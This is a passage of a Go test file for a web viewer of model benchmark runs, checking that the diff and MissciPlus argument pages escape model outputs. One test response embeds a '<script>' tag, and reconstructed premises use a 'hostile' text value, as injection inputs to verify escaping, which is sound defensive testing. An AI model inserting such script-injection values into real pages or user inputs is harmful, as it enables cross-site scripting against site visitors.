		if g.Model == "model-b" && g.ClaimID == a.ClaimID && g.PromptID == a.PromptID && g.Run == a.Run {
			b = g
		}
	}
	if a == nil || b == nil {
		t.Fatal("no pair of answers to one prompt")
	}
	a.Response, b.Response = "The moon is made of rock, as samples show.", "The moon is made of <script>cheese</script>, as samples show."
	deflect.SaveGens(ctx, st, id1, d.Gens)
	h := viewer(t, st)
	_, across, _ := get(t, h, fmt.Sprintf("/runs/%d/compare?claim=%s&frame=%s", id1, url.QueryEscape(a.ClaimID), url.QueryEscape(deflect.FrameLabel(a))))
	i := strings.Index(across, fmt.Sprintf(`href="/runs/%d/diff?a=%s&amp;b=%s"`, id1, a.GenID, b.GenID))
	if i < 0 {
		t.Fatalf("the side-by-side page links no diff of %s and %s:\n%.3000s", a.GenID, b.GenID, across)
	}
	code, page, _ := get(t, h, fmt.Sprintf("/runs/%d/diff?a=%s&b=%s", id1, url.QueryEscape(a.GenID), url.QueryEscape(b.GenID)))
	if code != 200 || !strings.Contains(page, "<del>rock</del>") || !strings.Contains(page, "<ins>&lt;script&gt;cheese&lt;/script&gt;</ins>") {
		t.Fatalf("the diff: %d\n%.3000s", code, page)
	}
	if code, _, _ := get(t, h, fmt.Sprintf("/runs/%d/diff?a=nope&b=%s", id1, url.QueryEscape(b.GenID))); code != 404 {
		t.Fatalf("a diff with an unknown generation answers %d", code)
	}
}

// missciplusRuns stores a MissciPlus subtask 1 random run of the dev split
// (two seeds) and a subtask 3 run whose reconstructed premises are hostile
// text, as the runs would store them.
func missciplusRuns(t *testing.T, st *sqlite.Store) (rank, recon int64) {
	t.Helper()
	ctx := context.Background()
	args, err := missciplus.Load("dev")
	if err != nil {
		t.Fatal(err)
	}
	put := func(name string, setup missciplus.Setup, kind string, bodies map[string]any) int64 {
		id, _ := st.StartRun(ctx, store.Run{Name: name, Benchmark: missciplus.Name, Version: "test"})
		for _, a := range args {
			setup.IDs = append(setup.IDs, a.ID)
		}
		b, _ := json.Marshal(setup)
		recs := []store.Record{{Kind: missciplus.KindSetup, Key: "setup", Body: b}}
		for k, v := range bodies {
			b, _ := json.Marshal(v)
			recs = append(recs, store.Record{Kind: kind, Key: k, Body: b})
		}
		if err := st.PutRecordKinds(ctx, id, []string{missciplus.KindSetup, kind}, recs); err != nil {
			t.Fatal(err)
		}
		if err := st.FinishRun(ctx, id, "done"); err != nil {
			t.Fatal(err)
		}
		return id
	}
	rks, _ := missciplus.Rank("random", args, false, []uint64{1, 2})
	bodies := map[string]any{}
	for i, rk := range rks {
		for _, r := range rk {
			bodies[fmt.Sprintf("%s/s%d", r.ID, i+1)] = map[string]any{"id": r.ID, "ranked_passages": r.Ranked, "seed": i + 1}
		}
	}
	rank = put("missciplus rank", missciplus.Setup{Subtask: 1, Split: "dev", Ranker: "random", Seeds: []uint64{1, 2}}, missciplus.KindRanking, bodies)
	bodies = map[string]any{}
	for _, a := range args {
		class := a.Argument.Fallacies[0].Interchangeable[0].Class
		p0 := "accurate_premise"
		if ids := a.P0Passages(); len(ids) > 0 {
			p0 = ids[0]
		}
		bodies[a.ID] = missciplus.ArgumentPrediction{Argument: a.ID,
			Prompts:   []missciplus.PromptPrediction{{From: []string{p0}, IsParsed: true, Fallacies: []missciplus.PredictedFallacy{{PredictionID: "1-1", Class: &class, Premise: hostile[0] + " premise", Rank: 1}}}},
			Alignment: map[string][]string{a.Argument.Fallacies[0].Interchangeable[0].ID: {"1-1"}}}
	}
	recon = put("missciplus reconstruct", missciplus.Setup{Subtask: 3, Split: "dev", Ranker: missciplus.PassageWise, Model: "openai:m", Template: "reconstruct-passage/p7-passage-DLE", Judge: "openai:m"}, missciplus.KindReconstruction, bodies)
	return rank, recon
}

// TestMissciPlusPages: a ranking run's page links its arguments; an
// argument's page shows the study's passages in the chosen seed's ranking
// with the ones stating p0 marked and their sentences highlighted; a
// reconstruction run's argument page shows the reconstructed premises,
// escaped, and what they were aligned to.
func TestMissciPlusPages(t *testing.T) {
	st, _, _ := seed(t, []string{"model-a"}, 1)
	rank, recon := missciplusRuns(t, st)
	h := viewer(t, st)
	code, body, _ := get(t, h, fmt.Sprintf("/runs/%d", rank))
	if code != 200 || !strings.Contains(body, fmt.Sprintf(`href="/runs/%d/arguments"`, rank)) || !strings.Contains(body, "random, mean of 2 seeds") {
		t.Fatalf("run page %d:\n%s", code, body)
	}
	code, body, _ = get(t, h, fmt.Sprintf("/runs/%d/arguments/arg-10?g=1", rank))
	if code != 200 || !strings.Contains(body, "<strong>seed 2</strong>") || !strings.Contains(body, "states p0") || !strings.Contains(body, "<mark") {
		t.Fatalf("argument page %d:\n%s", code, body)
	}
	if code, _, _ := get(t, h, fmt.Sprintf("/runs/%d/arguments/arg-nope", rank)); code != 404 {
		t.Fatalf("an unknown argument: %d", code)
	}
	code, body, _ = get(t, h, fmt.Sprintf("/runs/%d/arguments/arg-10", recon))
	if code != 200 || strings.Contains(body, hostile[0]) || !strings.Contains(body, "Reconstructed fallacies") || !strings.Contains(body, "arg-10:1:1") {
		t.Fatalf("reconstruction argument page %d:\n%s", code, body)
	}
}
